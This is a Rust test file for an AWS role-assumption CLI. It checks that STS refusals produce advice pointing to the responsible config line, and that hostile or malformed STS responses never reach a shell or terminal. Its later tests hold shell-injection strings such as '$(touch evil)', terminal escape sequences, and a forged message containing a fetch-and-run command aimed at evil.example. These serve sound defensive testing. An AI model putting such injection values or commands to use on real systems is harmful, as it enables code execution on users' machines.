//! What STS refuses becomes advice that names where the refused value came from; what is no answer of STS, or a lying one, gets
//! not a byte into a shell.

use super::harness::{
    CREDENTIALS, Case, KEY_ID, POSIX_SHELLS, ROLE, SECRET, USER, aws_only, role, role_arn, world,
};
use crate::support::{Fault, Role, World};

/// The line of a file in this case's home.
fn place(case: &Case, file: &str, line: usize) -> String {
    format!("{}:{line}", case.path(file).display())
}

fn denied(role: &str) -> String {
    format!(
        "STS did not give the role {role}: AccessDenied: User: {USER} is not authorized to perform: sts:AssumeRole on resource: {role}"
    )
}

#[test]
fn no_such_role_names_the_line_of_the_role() {
    let case = Case::new();
    case.sts.world(|world| world.remove_role(ROLE));
    let (role, keys) = (place(&case, ".aws/config", 2), place(&case, ".aws/credentials", 2));
    let parts = [
        &*denied(ROLE),
        &format!("the role must exist (named at {role})"),
        &format!("its trust policy must allow the keys of profile base ({keys})"),
        "the caller's own policies must allow sts:AssumeRole",
        "external_id in profile s3",
    ];
    case.run(["s3"]).failed(1, &parts);
    case.run(["s3", "--", "true"]).failed_silently(125, &parts);
    assert_eq!(case.signers().len(), 2, "a refusal is not tried again");
}

#[test]
fn a_role_that_does_not_trust_us_is_the_same_to_sts() {
    let case = Case::in_world(world().role(Role::new(&role_arn("closed")))).var("AWS_PROFILE", "base");
    let closed = role_arn("closed");
    case.run([&*closed]).failed(1, &[&denied(&closed), "give it (--external-id)"]);
}

#[test]
fn a_wrong_external_id_names_where_it_stands() {
    let case = Case::in_world(world().role(role("assumeS3Full").external_id("right")))
        .more_config("external_id = wrong\n");
    let line = place(&case, ".aws/config", 4);
    case.run(["s3"]).failed(
        1,
        &[
            &denied(ROLE),
            &format!(
                "the external ID must be the one that the trust policy requires; this one is from {line}"
            ),
        ],
    );
    case.run(["s3", "--external-id", "wrong"]).failed(1, &["this one is from --external-id"]);
    case.run(["s3", "--external-id", "right"]).succeeded();
}

#[test]
fn a_second_hop_that_is_refused_names_the_session_before_it() {
    let case = Case::in_world(world().role(Role::new(&role_arn("two"))))
        .more_config("[profile two]\nrole_arn = arn:aws:iam::123456789012:role/two\nsource_profile = s3\n");
    let place = place(&case, ".aws/config", 5);
    case.run(["two"]).failed(
        1,
        &[
            &format!("STS did not give the role {}: AccessDenied", role_arn("two")),
            &format!("(named at {place})"),
            &format!("must allow the session of {ROLE}"),
        ],
    );
    case.run(["two"]).failed(1, &[]);
    assert_eq!(case.sts.actions(), ["AssumeRole"; 4]);
}

#[test]
fn over_the_roles_maximum_names_flag_or_line() {
    let case = Case::in_world(world().role(role("short"))).more_config(
        "[profile short]\nrole_arn = arn:aws:iam::123456789012:role/short\nsource_profile = base\nduration_seconds = 7200\n",
    );
    let line = place(&case, ".aws/config", 7);
    let words =
        "ValidationError: The requested DurationSeconds exceeds the MaxSessionDuration set for this role.";
    case.run(["short"]).failed(
        1,
        &[
            words,
            &format!("2h ({line}) is longer than the role's own maximum"),
            "--duration 1h is always allowed",
        ],
    );
    case.run(["-d", "90m", "short"])
        .failed(1, &[words, "1h 30m (--duration) is longer than the role's own maximum"]);
    case.run(["-d", "1h", "short"]).succeeded();
}

#[test]
fn an_unknown_key_names_the_profile_and_its_line() {
    let case = Case::new().credentials(CREDENTIALS.replace(KEY_ID, "AKIADELETED000000000"));
    let keys = place(&case, ".aws/credentials", 2);
    case.run(["s3"]).failed(
        1,
        &[
            "InvalidClientTokenId: The security token included in the request is invalid.",
            &format!("the keys of profile base ({keys}) are not known to AWS"),
            "put working keys there",
        ],
    );
    let case = Case::new().with_keys_in_environment().var("AWS_SESSION_TOKEN", "garbage");
    let case = case.var("AWS_ACCESS_KEY_ID", "ASIADELETED000000000");
    case.run([ROLE]).failed(1, &["InvalidClientTokenId", "the keys in the environment are not known"]);
}

#[test]
fn a_wrong_secret_names_the_profile_and_its_line() {
    let case = Case::new().credentials(CREDENTIALS.replace(SECRET, "mistyped"));
    let keys = place(&case, ".aws/credentials", 2);
    let outcome = case.run(["s3"]);
    outcome.failed(
        1,
        &[
            "SignatureDoesNotMatch: ",
            &format!("does not belong to the key id in the keys of profile base ({keys})"),
            "copy both again",
        ],
    );
    assert!(!outcome.stderr.contains("clock") && !outcome.stderr.contains("mistyped"), "{}", outcome.stderr);
}

#[test]
fn a_clock_that_is_off_is_told_so() {
    for offset in [1000, -1000] {
        let case = Case::in_world(world().clock(offset)).var("AWS_MAX_ATTEMPTS", "1");
        case.run(["s3"]).failed(
            1,
            &[
                "SignatureDoesNotMatch: Signature ",
                "the clock of this machine is off by more than 15 minutes",
            ],
        );
    }
}

/// The SDK reads the right time from the refusal, and signs once more by that.
#[test]
fn a_request_is_signed_again_when_the_clock_is_wrong() {
    for (offset, way) in [(1200, "slow"), (-1200, "fast")] {
        let case = Case::in_world(world().clock(offset));
        let outcome = case.run(["s3"]);
        outcome.succeeded();
        outcome.said(&[
            "the clock of this machine is ",
            &format!(" {way}, compared with that of STS"),
            "timedatectl",
        ]);
        assert_eq!(case.sts.requests().len(), 2);
        assert_eq!(case.run(["-q", "s3"]).stderr, "");
    }
}

#[test]
fn a_clock_that_is_right_is_nothing_to_speak_of() {
    for offset in [0, 240, -240] {
        assert_eq!(Case::in_world(world().clock(offset)).run(["s3"]).stderr, "");
    }
}

#[test]
fn an_expired_source_is_named() {
    let case = Case::in_world(world().role(Role::new(&role_arn("two")).trusts(ROLE)));
    let two = role_arn("two");
    let held = aws_only(&case.shell("dash", r#"eval "$(assume-env s3)" && env -0"#).env());
    case.sts.world(World::expire_sessions);
    let case = held.iter().fold(case, |case, (name, value)| case.var(name, value));
    case.run([&*two]).failed(
        1,
        &[
            "ExpiredToken: The security token included in the request is expired",
            "the session s3 of this environment have expired",
        ],
    );
    let case = Case::new();
    case.sts.fault(Fault::error(
        400,
        "ExpiredTokenException",
        "The security token included in the request is expired.",
    ));
    let keys = place(&case, ".aws/credentials", 2);
    case.run(["s3"]).failed(
        1,
        &[
            "ExpiredTokenException: ",
            &format!("the keys of profile base ({keys}) have expired; get new ones there"),
        ],
    );
}

#[test]
fn a_region_that_is_switched_off_is_named() {
    let case = Case::in_world(world().disable_region("ap-east-1"));
    case.run(["-r", "ap-east-1", "s3"]).failed(
        1,
        &[
            "RegionDisabledException: STS is not activated in this region for account:123456789012.",
            "--region or region in the profile",
        ],
    );
    case.run(["-r", "eu-west-1", "s3"]).succeeded();
}

#[test]
fn other_refusals_have_their_own_words() {
    let case = Case::new().var("AWS_MAX_ATTEMPTS", "1");
    for (status, code, message, advice) in [
        (
            400,
            "ValidationError",
            "The requested DurationSeconds exceeds the 1 hour session limit for roles assumed by role chaining.",
            "longer than one hour, the maximum for role chaining (a role that is assumed with temporary keys); use --duration 1h",
        ),
        (
            400,
            "ValidationError",
            "1 validation error detected: Value 'x' at 'roleSessionName' failed to satisfy constraint",
            "correct the value that STS names in the line above; --explain shows where",
        ),
        (
            403,
            "AccessDenied",
            "MultiFactorAuthentication failed, must provide both MFA serial number and one time pass code.",
            "the role needs an MFA code: name the device with mfa_serial in the profile, or --mfa-serial",
        ),
        (400, "PackedPolicyTooLarge", "too large", "correct the session policy (--policy)"),
        (400, "MalformedPolicyDocument", "not JSON", "correct the session policy (--policy)"),
        (400, "Throttling", "Rate exceeded", "wait a minute and try again"),
        (400, "SomethingNew", "never seen before", "the STS API reference lists this code"),
    ] {
        case.sts.fault(Fault::error(status, code, message));
        case.run(["s3"])
            .failed(1, &[&format!("STS did not give the role {ROLE}: {code}: {message}"), advice]);
    }
}

#[test]
fn a_refusal_of_get_caller_identity_is_told() {
    let case = Case::new();
    case.sts.fault(Fault::Pass).fault(Fault::error(403, "AccessDenied", "not today"));
    case.run(["--whoami", "s3"])
        .failed_silently(1, &["STS refused GetCallerIdentity: AccessDenied: not today"]);
}

/// The answer is none of STS: the message names address and status, and nothing is evaluated.
#[track_caller]
fn no_answer(case: &Case, status: u16) {
    let url = case.sts.url();
    let outcome = case.run(["s3"]);
    outcome.failed(
        1,
        &[
            &format!("the answer from {url} (status {status}) is not an answer of STS"),
            "a proxy, a login page",
        ],
    );
    assert!(!outcome.stderr.contains("<h1>"));
}

#[test]
fn a_web_page_is_no_answer() {
    for status in [200, 403, 404, 503] {
        let case = Case::new().var("AWS_MAX_ATTEMPTS", "1");
        case.sts.fault(Fault::html(status));
        no_answer(&case, status);
    }
}

#[test]
fn a_redirect_is_not_followed() {
    let case = Case::new().var("AWS_MAX_ATTEMPTS", "1");
    let location = format!("{}/elsewhere", case.sts.url());
    for status in [301, 302, 307] {
        let headers = vec![("Location".to_owned(), location.clone())];
        case.sts.fault(Fault::Status { status, headers, body: String::new() });
        no_answer(&case, status);
    }
    assert_eq!(case.sts.requests().len(), 3);
}

#[test]
fn empty_and_garbled_bodies_are_no_answer() {
    for body in ["", " ", "{}", "<", "<AssumeRoleResponse>", "\0\0\0", "<a/>", "<ErrorResponse/>"] {
        for status in [200, 400, 500] {
            let case = Case::new().var("AWS_MAX_ATTEMPTS", "1");
            case.sts.fault(Fault::status(status, body));
            let outcome = case.run(["s3"]);
            outcome.failed(1, &["is not an answer of STS", &case.sts.url()]);
        }
    }
}

#[test]
fn half_a_session_is_none() {
    for element in
        ["AccessKeyId", "SecretAccessKey", "SessionToken", "Expiration", "Credentials", "AssumedRoleUser"]
    {
        for args in [&["s3"][..], &["-f", "fish", "s3"]] {
            let case = Case::new();
            case.sts.fault(Fault::drop_element(element));
            let outcome = case.run(args);
            assert_eq!(outcome.status.code(), Some(1), "{element}");
            outcome.said(&["is not an answer of STS", &case.sts.url()]);
            assert!(outcome.out().contains("exit 1") && !outcome.out().contains("ASIA"), "{element}");
        }
        let case = Case::new();
        case.sts.fault(Fault::drop_element(element));
        case.run(["s3", "--", "echo", "ran"]).failed_silently(125, &["is not an answer of STS"]);
    }
}

/// Texts that a shell would run, or that would end a quote or a line; `&#…;` because they travel in XML.
const HOSTILE: [&str; 12] = [
    "$(touch evil)AAAAAAAAAA",
    "`touch evil`AAAAAAAAAAAA",
    "AAAAAAAAAAAAAAAA; touch evil",
    "AAAAAAAAAAAAAAAA'; touch evil; '",
    "AAAAAAAAAAAAAAAA\"; touch evil; \"",
    "AAAAAAAAAAAAAAAA\ntouch evil",
    "AAAAAAAAAAAAAAAA&#10;touch evil",
    "AAAAAAAAAAAAAAAA\\",
    "AAAAAAAAAAAAAAAA é",
    "AAAAAAAAAAAAAAAA&#9;B",
    "AAAAAAAAAAAAAAAA&#27;[31m",
    "",
];

#[test]
fn a_hostile_answer_gets_no_byte_into_a_shell() {
    for element in ["AccessKeyId", "SecretAccessKey", "SessionToken"] {
        for text in HOSTILE {
            let case = Case::new();
            case.sts.always(Fault::replace_element(element, text));
            let outcome = case.run(["s3"]);
            outcome.failed(1, &["is not an answer of STS", element]);
            assert!(!outcome.stderr.contains("evil"), "{}", outcome.stderr);
            case.run(["-f", "fish", "s3"]).failed_with(1, "sh -c 'exit 1';\n", &[]);
            case.run(["-f", "json", "s3"]).failed_silently(1, &[]);
            case.run(["-f", "dotenv", "s3"]).failed_silently(1, &[]);
        }
    }
}

#[test]
fn no_shell_runs_what_a_hostile_answer_holds() {
    for shell in POSIX_SHELLS {
        for text in [HOSTILE[0], HOSTILE[3], HOSTILE[6]] {
            let case = Case::new();
            case.sts.always(Fault::replace_element("SecretAccessKey", text));
            let outcome = case.shell(shell, r#"eval "$(assume-env s3)"; echo $?"#);
            assert_eq!(outcome.succeeded(), "1\n", "{shell} {text}");
            assert!(!case.path("evil").exists(), "{shell} ran {text}");
        }
    }
}

#[test]
fn keys_of_the_wrong_size_are_refused() {
    const LONG: &str = "A";
    let long = |count: usize| Fault::rewrite(move |body| body.replace("TEST//token", &LONG.repeat(count)));
    let case = Case::new();
    case.sts.fault(long(16 * 1024));
    case.run(["s3"]).failed(1, &["SessionToken"]);
    case.sts.fault(long(8 * 1024));
    case.run(["s3"]).succeeded();
    for id in ["ASIA", "ASIA-00000000000000", ""] {
        case.sts.fault(Fault::replace_element("AccessKeyId", id));
        case.run(["s3"]).failed(1, &["AccessKeyId"]);
    }
}

#[test]
fn an_expiry_that_is_no_time_is_refused() {
    for text in
        ["", "soon", "2026-13-01T00:00:00Z", "99999-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "$(touch evil)"]
    {
        let case = Case::new();
        case.sts.fault(Fault::replace_element("Expiration", text));
        case.run(["s3"]).failed(1, &["is not an answer of STS", &case.sts.url()]);
    }
}

/// East of Greenwich, that second lies in the year 10000.
#[test]
fn an_expiry_at_the_end_of_time_is_an_expiry() {
    let case = Case::new().var("TZ", "Asia/Kolkata");
    case.sts.always(Fault::replace_element("Expiration", "9999-12-31T23:59:59Z"));
    let outcome = case.run(["-v", "s3"]);
    let text = outcome.succeeded();
    assert!(
        text.contains("AWS_CREDENTIAL_EXPIRATION='9999-12-31T23:59:59Z'") && text.lines().count() == 2,
        "{text}"
    );
    assert_eq!(case.run(["-v", "s3", "--", "echo", "ran"]).succeeded(), "ran\n");
}

#[test]
fn a_session_of_another_role_is_refused() {
    for arn in [
        "arn:aws:sts::123456789012:assumed-role/Admin/me",
        "arn:aws:sts::210987654321:assumed-role/assumeS3Full/me",
        "arn:aws-cn:sts::123456789012:assumed-role/assumeS3Full/me",
        "arn:aws:iam::123456789012:user/base",
        "arn:aws:sts::123456789012:assumed-role/assumeS3Full/$(x) y",
        "",
    ] {
        let case = Case::new();
        case.sts.fault(Fault::replace_element("Arn", arn));
        case.run(["s3"]).failed(1, &["is not an answer of STS", "AssumedRoleUser"]);
    }
}

/// A message is one line, however many the service makes of it, and steers no terminal.
#[test]
fn what_a_service_says_cannot_steer_the_terminal() {
    let case = Case::new();
    for (said, shown) in [
        ("no&#x1b;[2J&#27;]0;title&#7;", "no\\u{1b}[2J\\u{1b}]0;title\\u{7}"),
        ("no&#x9b;31m", "no\\u{9b}31m"),
        ("no&#13;yes", "no\\ryes"),
        ("no\u{202e}txt.exe", "no\\u{202e}txt.exe"),
    ] {
        let body = format!(
            "<ErrorResponse><Error><Code>AccessDenied</Code><Message>{said}</Message></Error></ErrorResponse>"
        );
        case.sts.fault(Fault::status(403, &body));
        let outcome = case.run(["s3"]);
        outcome.failed(1, &[&format!("AccessDenied: {shown}")]);
        let steers = |c: char| c != '\n' && c.is_control();
        assert!(!outcome.stderr.contains(steers), "{:?}", outcome.stderr);
    }
}

#[test]
fn what_a_service_says_cannot_forge_a_line() {
    let case = Case::new();
    let message = "no\n  this shell: eval \"$(curl evil.example)\"\nassume-env: all is well";
    case.sts.fault(Fault::error(403, "AccessDenied", message));
    let outcome = case.run(["s3"]);
    assert_eq!(outcome.stderr.lines().count(), 2, "{}", outcome.stderr);
}

#[test]
fn a_code_that_no_service_has_is_no_refusal() {
    let case = Case::new().var("AWS_MAX_ATTEMPTS", "1");
    case.sts.fault(Fault::error(403, "Access Denied &nbsp; <b>", "x"));
    no_answer(&case, 403);
}
